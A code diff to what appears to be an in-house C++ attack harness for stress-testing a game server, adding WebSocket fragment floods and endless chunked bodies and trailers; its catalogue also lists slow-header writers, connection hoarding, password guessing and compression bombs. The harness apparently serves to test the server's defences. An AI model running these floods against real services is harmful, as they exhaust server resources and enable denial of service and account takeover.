@@ -94,6 +94,21 @@ awaitable<void> flood_with_control_frames(Attack& attack, std::size_t number) {
   co_await flood_with(attack, number, bytes);
 }
 
+// Sends messages in two fragments, which the server may be reading when it closes the socket, or one that never ends.
+awaitable<void> flood_with_fragments(Attack& attack, std::size_t number) {
+  std::string bytes;
+  if (number % 2 == 0) {
+    for (int times = 0; times < 200; ++times) bytes += frame(R"({"t":)", 1, 0, false) + frame(R"("ping"})", 0);
+    co_await flood_with(attack, number, bytes);
+    co_return;
+  }
+  auto stranger = co_await Stranger::come(attack, number);
+  if (!stranger || !co_await stranger->upgrade()) co_return;
+  if (!co_await stranger->send(frame(R"({"t":)", 1, 0, false))) co_return;
+  for (int times = 0; times < 500; ++times) bytes += frame("", 0, 0, false);
+  while (!attack.is_over() && co_await stranger->send(bytes)) stranger->drain();
+}
+
 // Makes the most expensive requests, one after another on keep-alive connections.
 awaitable<void> flood_with_requests(Attack& attack, std::size_t number) {
   std::array<std::string, 9> dear{fmt::format("/api/v1/games/{}", attack.game),
@@ -174,15 +189,15 @@ awaitable<void> invent_guests(Attack& attack, std::size_t number) {
 awaitable<void> send_huge_headers(Attack& attack, std::size_t number) {
   auto stranger = co_await Stranger::come(attack, number);
   const std::string line = "X-Long: " + std::string(1000, 'h') + "\r\n";
-  if (!stranger || !co_await stranger->send("POST /api/v1/games HTTP/1.1\r\n")) co_return;
-  if (number % 2 == 0) {  // an endless body
-    const std::string chunk = "1000\r\n" + std::string(4096, 'b') + "\r\n";
-    if (!co_await stranger->send("Host: x\r\nTransfer-Encoding: chunked\r\n\r\n")) co_return;
-    while (!attack.is_over() && co_await stranger->send(chunk)) {
-    }
-    co_return;
-  }
-  while (!attack.is_over() && co_await stranger->send(line)) {
+  const std::string body = "Host: x\r\nTransfer-Encoding: chunked\r\n\r\n";
+  struct Endless {
+    std::string first, again;
+  };
+  const std::array<Endless, 4> all{Endless{"", line}, Endless{body, "1000\r\n" + std::string(4096, 'b') + "\r\n"},
+                                   Endless{body + "5;", std::string(4096, 'e')}, Endless{body + "0\r\n", line}};
+  const Endless& one = all[number % all.size()];
+  if (!stranger || !co_await stranger->send("POST /api/v1/games HTTP/1.1\r\n" + one.first)) co_return;
+  while (!attack.is_over() && co_await stranger->send(one.again)) {
   }
 }
 
@@ -224,6 +239,7 @@ constexpr std::array all_kinds{
     Kind{"slow-writers", "send a header one byte at a time", 400, 10, write_slowly},
     Kind{"frames", "flood sockets with frames", 60, 10, flood_with_frames},
     Kind{"control-frames", "flood sockets with pings, pongs and empty fragments", 60, 10, flood_with_control_frames},
+    Kind{"fragments", "flood sockets with messages in fragments, and with endless ones", 60, 10, flood_with_fragments},
     Kind{"requests", "request the most expensive pages as fast as possible", 100, 20, flood_with_requests},
     Kind{"connections", "hold connections and send nothing", 1500, 10, hoard},
     Kind{"sockets", "hold sockets and send nothing", 1500, 10, hoard_sockets},
@@ -231,7 +247,7 @@ constexpr std::array all_kinds{
     Kind{"sessions", "sign in to their own account again and again", 20, 20, make_sessions},
     Kind{"guesses", "guess the passwords of honest players", 60, 60, guess_passwords},
     Kind{"guests", "delete and download the data of invented guests", 60, 60, invent_guests},
-    Kind{"headers", "send endless headers and bodies", 60, 10, send_huge_headers},
+    Kind{"headers", "send endless headers, bodies, chunks and trailers", 60, 10, send_huge_headers},
     Kind{"half-upgrades", "send half of a socket request, and half of a frame", 200, 10, upgrade_by_half},
     Kind{"bombs", "send compressed frames and bodies", 40, 10, send_bombs},
 };
